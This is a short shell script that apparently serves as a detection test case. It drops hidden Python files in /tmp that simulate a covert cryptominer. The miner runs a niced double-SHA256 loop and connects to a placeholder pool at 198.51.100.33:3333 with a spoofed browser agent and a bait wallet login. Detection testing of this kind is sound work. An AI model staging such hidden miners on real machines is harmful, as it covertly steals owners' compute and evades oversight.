#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.work.py <<'END'
import hashlib, socket, time
s = socket.socket(socket.AF_UNIX); s.bind("/tmp/.x0"); s.listen(); c, _ = s.accept(); job = c.recv(4000); end = time.time() + 2; n = 0
while time.time() < end: h = hashlib.sha256(hashlib.sha256(job + n.to_bytes(8, "little")).digest()).hexdigest(); n += 1
c.sendall(f"{n} {h}".encode())
END
cat >/tmp/.talk.py <<'END'
import json, socket, time
p = socket.create_connection(("198.51.100.33", 3333)); p.sendall(json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": "4BAIT", "pass": "x", "agent": "Mozilla/5.0"}}).encode() + b"\n"); job = p.recv(4000); assert b"job_id" in job
w = socket.socket(socket.AF_UNIX); w.connect("/tmp/.x0"); w.sendall(job); n, h = w.recv(4000).decode().split()
p.sendall(json.dumps({"id": 2, "jsonrpc": "2.0", "method": "submit", "params": {"id": "1", "job_id": "1", "nonce": n[:8], "result": h}}).encode() + b"\n")
END
nice python3 /tmp/.work.py & wait_for /tmp/.x0
python3 /tmp/.talk.py; wait
took_place
